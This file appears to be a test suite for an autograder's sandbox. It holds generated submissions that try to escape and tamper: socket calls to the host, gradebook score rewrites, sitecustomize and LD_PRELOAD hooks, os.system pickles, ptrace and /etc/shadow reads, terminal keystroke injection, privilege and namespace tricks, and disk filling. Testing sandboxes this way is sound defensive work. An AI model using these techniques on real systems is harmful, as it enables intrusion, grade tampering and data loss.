"""Attacks on the sandbox: out to the host, its files, its network, its processes, and other submissions.

What they aim at on the host is under watch: `host` names a listener, files and folders that must stay as they are.
"""

import json

from attacks import RIGHT, WRONG, attack

TRIES = """
import os, socket, sys

HOST = {host}


def attempt(what, *given, **more):
    try:
        return what(*given, **more)
    except BaseException as reason:
        return reason
"""


def escaping(host: dict, code: str) -> str:
    return WRONG + TRIES.replace("{host}", json.dumps(host)) + code


@attack(knows=("host",))
def network(host: dict) -> str:
    """Calls a listener on the host, by every address that the machine has, and asks for names."""
    return escaping(
        host,
        """
import struct

for address in ("127.0.0.1", "localhost", "10.0.2.2", "172.17.0.1", *HOST["addresses"]):
    connection = socket.socket()
    connection.settimeout(0.2)
    attempt(connection.connect, (address, HOST["port"]))
    attempt(connection.send, b"CANARY")
    datagram = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    attempt(datagram.sendto, b"CANARY", (address, HOST["port"]))
socket.setdefaulttimeout(0.2)
print("DNS", attempt(socket.gethostbyname, "example.com"))
for name in ("\\0" + HOST["abstract"], HOST["socket"]):
    connection = socket.socket(socket.AF_UNIX)
    attempt(connection.connect, name)
    attempt(connection.send, b"CANARY")
""",
    )


@attack(knows=("host",))
def files_of_the_host(host: dict) -> str:
    """Writes, empties, deletes and links the gradebook, the course, other submissions and whatever can be written."""
    return escaping(
        host,
        """
import shutil, sqlite3

for path in HOST["files"]:
    attempt(lambda: open(path, "a").write("CANARY"))
    attempt(lambda: open(path, "w").write("CANARY"))
    attempt(os.remove, path)
    attempt(os.symlink, "/etc/passwd", path + ".link")
    attempt(os.makedirs, os.path.dirname(path), exist_ok=True)
    attempt(lambda: sqlite3.connect(path).execute("update results set score = 11"))
    attempt(shutil.rmtree, os.path.dirname(path))
    attempt(os.chmod, path, 0o777)
""",
    )


@attack(knows=("host",))
def environment_of_the_host(host: dict) -> str:
    """Writes into Python's environment what every later process would run: paths, plugins, `sitecustomize`."""
    return escaping(
        host,
        """
import site, sysconfig, txlib, ipykernel

payload = f"import os; open({HOST['flag']!r}, 'w').write('CANARY')\\n"
folders = {*site.getsitepackages(), site.getusersitepackages(), sysconfig.get_path("stdlib"), os.getcwd(), "/tmp",
           os.path.dirname(txlib.__file__), os.path.dirname(ipykernel.__file__), os.path.expanduser("~"), sys.prefix,
           os.path.expanduser("~/.ipython/profile_default/startup"), os.path.expanduser("~/.jupyter")}
for folder in folders:
    attempt(os.makedirs, folder, exist_ok=True)
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "conftest.py", "pytest.ini", "evil.py", "torch.py",
                 "nbval.py", "jupyter_config.py", ".pdbrc", ".bashrc", "pyvenv.cfg"):
        attempt(lambda: open(os.path.join(folder, name), "w").write(payload))
os.environ |= {"PYTEST_ADDOPTS": "-p evil", "PYTHONPATH": os.getcwd(), "PYTHONSTARTUP": "evil.py",
               "PYTEST_PLUGINS": "evil", "LD_PRELOAD": "/tmp/evil.so", "TXGRADE_TRUST_SUBMISSIONS": "1"}
""",
    )


@attack(knows=("host",))
def pickle_at_exit(host: dict) -> str:
    """Leaves pickles that run a command where they are read, also at exit."""
    return escaping(
        host,
        """
import atexit, pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch " + HOST["flag"],)


def leave():
    for folder in (".", "/tmp", os.path.expanduser("~"), *map(os.path.dirname, HOST["files"])):
        for name in ("_RESULT.pkl", ".OTTER_LOG", "results.pkl", "gradebook.db", "weights.pt"):
            attempt(lambda: open(os.path.join(folder, name), "wb").write(pickle.dumps(Command())))


leave()
atexit.register(leave)


def spread(x):
    return Command()
""",
    )


@attack(knows=("host",))
def other_processes(host: dict) -> str:
    """Signals, traces and reads every process by its number, and looks for others in /proc."""
    return escaping(
        host,
        """
import ctypes, signal

libc = ctypes.CDLL(None, use_errno=True)
mine = os.getpid()
numbers = {*HOST["processes"], *(int(each) for each in os.listdir("/proc") if each.isdigit()), os.getppid(), 1, 2}
for number in numbers - {mine}:
    libc.ptrace(16, number, 0, 0)
    attempt(lambda: open(f"/proc/{number}/mem", "r+b"))
    attempt(lambda: open(f"/proc/{number}/root/etc/shadow").read())
    print(number, attempt(lambda: open(f"/proc/{number}/environ").read()))
    if number in HOST["processes"]:
        attempt(os.kill, number, signal.SIGTERM)
""",
    )


@attack(knows=("host",))
def inherited_descriptors(host: dict) -> str:
    """Writes to every descriptor and socket that it was born with, and speaks to the zygote, if it is there."""
    return escaping(
        host,
        """
import glob, struct

own = {attempt(os.readlink, f"/proc/self/fd/{number}"): number for number in range(256)}
for number in range(3, 256):
    where = attempt(os.readlink, f"/proc/self/fd/{number}")
    if isinstance(where, str):
        print(number, where)
named = attempt(lambda: [line.split()[-1] for line in open("/proc/net/unix")])
for path in (*(named if isinstance(named, list) else ()), *glob.glob("/run/**", recursive=True),
             *glob.glob("/tmp/**", recursive=True), HOST["socket"]):
    connection = socket.socket(socket.AF_UNIX)
    connection.settimeout(0.1)
    if attempt(connection.connect, path) is None:
        for words in (b'{"do": "preload", "modules": ["antigravity"]}\\n', struct.pack(">I", 2**31), b"\\0" * 4096):
            attempt(connection.send, words)
        print(path, attempt(connection.recv, 4096))
""",
    )


@attack(knows=("host",))
def terminal(host: dict) -> str:
    """Writes to the grader's terminal, and types into it."""
    return escaping(
        host,
        """
import fcntl, termios

for number in (0, 1, 2):
    attempt(os.write, number, b"\\x1b]0;owned\\x07owned\\n")
for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/stdin", "/proc/self/fd/0"):
    device = attempt(os.open, name, os.O_RDWR | os.O_NOCTTY)
    if isinstance(device, int):
        for letter in b"touch " + HOST["flag"].encode() + b"\\n":
            attempt(fcntl.ioctl, device, termios.TIOCSTI, bytes([letter]))
""",
    )


@attack(knows=("host",))
def more_rights(host: dict) -> str:
    """Becomes root, mounts, makes name spaces, changes its root, loads and traces what only the kernel may."""
    return escaping(
        host,
        """
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
for identity in (0, 1000, 65534):
    for change in (os.setuid, os.setgid, os.setresuid, os.setgroups):
        attempt(change, identity) if change is not os.setresuid else attempt(change, *[identity] * 3)
for flags in (0x10000000, 0x00020000, 0x40000000, 0x20000000, 0x7e020000):
    libc.unshare(flags)
os.makedirs("root", exist_ok=True)
libc.mount(b"/", b"root", None, 4096, None)
libc.mount(b"proc", b"root", b"proc", 0, None)
libc.umount2(b"/proc", 2)
libc.umount2(os.getcwd().encode(), 2)
attempt(os.chroot, "root")
libc.pivot_root if hasattr(libc, "pivot_root") else None
for number in HOST["processes"] + [1]:
    for space in ("mnt", "net", "pid", "user"):
        file = attempt(os.open, f"/proc/{number}/ns/{space}", os.O_RDONLY)
        if isinstance(file, int):
            libc.setns(file, 0)
for path, words in (("/proc/sys/kernel/core_pattern", "|/tmp/evil"), ("/proc/self/uid_map", "0 0 1"),
                    ("/sys/kernel/uevent_helper", "/tmp/evil"), ("/proc/self/loginuid", "0"), ("/dev/mem", "x"),
                    ("/dev/kmsg", "CANARY")):
    attempt(lambda: open(path, "w").write(words))
print("CAPABILITIES", [line for line in open("/proc/self/status") if line.startswith(("Cap", "NoNewPrivs", "Uid"))])
attempt(lambda: open(HOST["files"][0], "a").write("CANARY"))
""",
    )


@attack(knows=("host",))
def links_out(host: dict) -> str:
    """Fills its folder with links, pipes and devices that lead out, for whoever cleans up or collects."""
    return escaping(
        host,
        """
for number, path in enumerate((*HOST["files"], "/", "/etc/shadow", "..", "/proc/1/root")):
    attempt(os.symlink, path, f"link-{number}")
    attempt(os.link, path, f"hard-{number}")
attempt(os.mkfifo, "pipe")
attempt(os.mknod, "device", 0o666 | 0o060000, os.makedev(8, 0))
attempt(os.rename, os.getcwd(), os.getcwd() + "-moved")
attempt(os.chmod, ".", 0)
""",
    )


@attack(knows=("host",))
def later_submissions(host: dict) -> str:
    """Leaves things for the submissions after it: files, shared memory, message queues, modules in the parent."""
    return escaping(
        host,
        """
import ctypes, importlib
from multiprocessing import shared_memory

attempt(shared_memory.SharedMemory, name="canary", create=True, size=4096)
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget(7, 4096, 0o1666)
libc.msgget(7, 0o1666)
torch.Tensor.amax = lambda *given, **more: torch.zeros(1)
torch.Tensor.__sub__ = lambda self, other: self
import txgrade.checking.checks as checks

checks.EvidenceCollector.randn = None
os.environ["TXGRADE_CANARY"] = "CANARY"
""",
    )


@attack("nothing")
def honest_after_the_others() -> dict[str, str]:
    """Not an attack: right answers that would see what the one before left behind."""
    return {
        "target": """
import os

from txgrade.checking import checks


def left_behind():
    from multiprocessing import shared_memory

    try:
        shared_memory.SharedMemory(name="canary")
        return True
    except OSError:
        return "TXGRADE_CANARY" in os.environ or checks.EvidenceCollector.randn is None


"""
        + RIGHT["target"].replace("return int(", "return 99 if left_behind() else int(")
    }


@attack()
def fills_folders_outside() -> str:
    """Writes files wherever a folder could be the grader's, and of no bounded size."""
    return (
        WRONG
        + """
import os

for folder in ("/kernel", "/run/txlib", "/run/txlib/kernels", "/run", "/etc", "/", "/proc/1/root"):
    try:
        for number in range(20):
            with open(f"{folder}/full-{number}", "wb") as file:
                file.write(b"x" * 10_000_000)
    except OSError as reason:
        print(folder, reason)
"""
    )


@attack()
def namespaces_inside() -> str:
    """Makes name spaces of its own, where it is root: with file systems in memory that nobody counts."""
    return (
        WRONG
        + '''
import subprocess, sys

print("INSIDE", subprocess.run([sys.executable, "-S", "-c", """
import ctypes, os

libc, uid, done = ctypes.CDLL(None), os.getuid(), []
for name, flags in (("user", 0x10000000), ("mount", 0x20000), ("process", 0x20000000)):
    done += [name] * (libc.unshare(flags) == 0)
for name, words in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {uid} 1")):
    try:
        open("/proc/self/" + name, "w").write(words)
    except OSError:
        pass
done += ["tmpfs"] * (libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=9g") == 0)
try:
    for number in range(30):
        open(f"/tmp/{number}", "wb").write(bytes(30_000_000))
    done.append("900 MB")
except OSError:
    pass
print(done)
"""], capture_output=True, text=True).stdout)
'''
    )
